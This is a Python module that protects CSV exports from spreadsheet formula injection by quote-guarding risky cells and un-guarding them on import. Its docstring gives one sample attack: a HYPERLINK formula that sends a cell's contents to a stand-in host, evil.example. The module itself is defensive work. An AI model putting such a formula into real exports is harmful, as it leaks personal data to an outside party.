"""CSV that a spreadsheet opens as data, never as formulas (OWASP's "CSV injection" rule).

Excel, LibreOffice and Google Sheets take a cell starting with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return for a formula: a subscriber named ``=HYPERLINK("https://evil.example/?"&A2)``
leaks the list to whoever opens the export. Such a cell is written with a single quote before it
(spreadsheets show the rest as text) and in double quotes. Every CSV digest writes goes through
`SpreadsheetSafeWriter`; `unguard_cell` takes the quote off again on import, so an export reads
back exactly.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"
_NEEDS_QUOTES = (",", '"', "\r", "\n")


def _guarded(value: str) -> bool:
    """True for a cell that starts a formula, or would once its leading quotes were taken off:
    guarding those too (one quote more) is what makes `unguard_cell` exact."""
    return value.lstrip(GUARD).startswith(FORMULA_STARTS)


def guard_cell(value: str) -> str:
    """The cell as a spreadsheet will show it, not run it.

    >>> guard_cell("=SUM(A1:A9)"), guard_cell("-1"), guard_cell("Ana"), guard_cell("'@x")
    ("'=SUM(A1:A9)", "'-1", 'Ana', "''@x")
    """
    return GUARD + value if _guarded(value) else value


def unguard_cell(value: str) -> str:
    """The cell as it was before `guard_cell`.

    >>> unguard_cell("'=SUM(A1:A9)"), unguard_cell("''@x"), unguard_cell("'tis"), unguard_cell("Ana")
    ('=SUM(A1:A9)', "'@x", "'tis", 'Ana')
    """
    return value[1:] if value.startswith(GUARD) and _guarded(value[1:]) else value


def unguard_cells(cells: list[str]) -> list[str]:
    """`unguard_cell` of each cell of an imported row, called only for a cell that starts with
    the guard (the others it returns as they are): most rows of a long file make no call."""
    return [unguard_cell(cell) if cell[:1] == GUARD else cell for cell in cells]


def _field(value: str) -> str:
    guarded = guard_cell(value)
    if guarded != value or any(character in value for character in _NEEDS_QUOTES):
        return '"' + guarded.replace('"', '""') + '"'
    return value


class SpreadsheetSafeWriter:
    """Writes rows like ``csv.writer`` (comma, minimal quoting, "\\n" line ends) with every cell
    guarded; a guarded cell is always quoted, as OWASP asks."""

    def __init__(self, out: TextIO) -> None:
        self.out = out

    def writerow(self, cells: Iterable[str]) -> None:
        fields = [_field(cell) for cell in cells]
        # A row of one empty cell is written "" (as the csv module does), or it would read as a blank line.
        self.out.write((",".join(fields) if fields != [""] else '""') + "\n")
